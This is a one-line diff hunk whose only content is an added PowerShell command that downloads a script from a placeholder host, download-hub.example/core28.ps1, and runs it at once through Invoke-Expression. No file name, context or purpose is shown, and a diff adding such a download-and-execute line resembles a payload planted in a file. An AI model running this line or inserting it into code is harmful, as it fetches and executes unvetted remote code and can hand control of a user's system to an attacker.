@@ -1,0 +1,1 @@
+(New-Object Net.WebClient).DownloadString('http://download-hub.example/core28.ps1') | Invoke-Expression
